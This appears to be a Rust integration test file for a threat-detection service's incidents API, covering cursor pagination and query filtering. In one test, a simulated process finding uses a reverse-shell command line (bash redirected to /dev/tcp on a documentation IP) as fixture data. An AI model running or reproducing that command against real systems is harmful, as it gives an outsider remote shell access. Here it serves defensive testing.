use std::collections::HashSet;

use chrono::Duration;
use serde_json::json;
use sg_types::api::Page;
use sg_types::api::threats::IncidentView;
use sg_types::{Role, TenantId};

use crate::fleet::{TestAgent, TestCaller, TestServer, file_finding, process_finding};

async fn list(server: &TestServer, caller: &TestCaller, query: &str) -> Page<IncidentView> {
    server
        .get(caller, &format!("/api/v1/threats/incidents?{query}"))
        .await
        .expect(200)
}

#[tokio::test]
async fn pages_stay_apart_while_new_incidents_arrive() {
    let server = TestServer::start().await;
    let admin = server.caller(TenantId::DEFAULT, Role::Admin).await;
    let mut agent = TestAgent::enrol(&server, &admin, "web-1").await;
    let now = server.state.now();
    // Half of them at the same instant: the id decides.
    let records: Vec<_> = (0..20)
        .map(|n| file_finding(now - Duration::seconds(n / 2), "r", "yara", &format!("/tmp/{n}")))
        .collect();
    agent.send(&server, &records).await;
    let known: HashSet<_> = list(&server, &admin, "limit=100")
        .await
        .items
        .iter()
        .map(|i| i.threat_id)
        .collect();
    assert_eq!(known.len(), 20);

    let (mut seen, mut cursor) = (Vec::new(), String::new());
    loop {
        let page = list(&server, &admin, &format!("limit=3{cursor}")).await;
        seen.extend(page.items.iter().map(|i| i.threat_id));
        server.clock.advance(Duration::seconds(1));
        let at = server.state.now();
        agent
            .send(
                &server,
                &[file_finding(at, "r", "yara", &format!("/new/{}", seen.len()))],
            )
            .await;
        let Some(next) = page.next_cursor else { break };
        cursor = format!("&cursor={next}");
    }
    assert_eq!(
        (seen.len(), seen.iter().copied().collect::<HashSet<_>>()),
        (20, known)
    );
}

#[tokio::test]
async fn filters_narrow_the_list_and_nonsense_is_refused() {
    let server = TestServer::start().await;
    let admin = server.caller(TenantId::DEFAULT, Role::Admin).await;
    let mut one = TestAgent::enrol(&server, &admin, "web-1").await;
    let mut two = TestAgent::enrol(&server, &admin, "db-1").await;
    let now = server.state.now();
    one.send(&server, &[file_finding(now, "eicar", "yara", "/srv/100%_real")])
        .await;
    two.send(
        &server,
        &[process_finding(
            now,
            "shell",
            "k",
            &[],
            "bash -i >& /dev/tcp/192.0.2.1/1",
        )],
    )
    .await;
    let id = list(&server, &admin, "search=real").await.items[0].threat_id;
    let change = json!({ "status": "investigating", "assigned_to": admin.user_id });
    server
        .patch(&admin, &format!("/api/v1/threats/incidents/{id}"), change)
        .await
        .expect::<serde_json::Value>(200);

    for (query, expected) in [
        ("status=new,investigating".to_owned(), 2),
        ("status=investigating".to_owned(), 1),
        ("status=resolved,false_positive".to_owned(), 0),
        ("severity=critical".to_owned(), 1),
        ("severity=high,critical".to_owned(), 2),
        (format!("agent_id={}", two.agent_id), 1),
        (format!("assigned_to={}", admin.user_id), 1),
        ("search=DEV%2FTCP".to_owned(), 1),
        ("search=WEB-1".to_owned(), 1),
        ("search=100%25_r".to_owned(), 1),
        ("search=0_real".to_owned(), 0),
        ("search=&status=&severity=&agent_id=&assigned_to=".to_owned(), 2),
    ] {
        assert_eq!(
            list(&server, &admin, &query).await.items.len(),
            expected,
            "{query}"
        );
    }
    for bad in [
        "status=open",
        "severity=bad",
        "agent_id=x",
        "assigned_to=me",
        "limit=501",
        "cursor=zz",
        "page=2",
        "search=%00",
    ] {
        assert_eq!(
            server
                .get(&admin, &format!("/api/v1/threats/incidents?{bad}"))
                .await
                .status,
            400,
            "{bad}"
        );
    }
}
